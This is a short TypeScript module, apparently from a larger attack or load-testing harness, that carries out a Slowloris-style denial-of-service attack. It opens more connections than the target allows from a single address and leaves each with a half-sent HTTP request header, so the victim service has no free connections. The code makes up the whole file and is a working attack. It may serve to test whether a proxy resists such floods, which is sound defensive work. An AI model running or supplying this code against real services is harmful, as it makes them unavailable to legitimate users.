// One address takes every client connection of the victim's service, and leaves a head in the middle on
// each: none of them is idle.
import type { Running, Target } from '../attack.ts';
import { HeldConnections } from '../sockets.ts';

const MORE_THAN_THERE_ARE = 1.2;

export async function halfHeads({ victimPort, connectionsMax }: Target): Promise<Running> {
  const count = Math.round(connectionsMax * MORE_THAN_THERE_ARE);
  const held = new HeldConnections({
    port: victimPort,
    count,
    reads: true,
    onOpen: (socket) => void socket.write('GET / HTTP/1.1\r\nHost: a'),
  });
  await held.start();
  return {
    note: () => `${count} of one address, ${held.closed} closed by the proxy`,
    stop: () => held.stop(),
  };
}
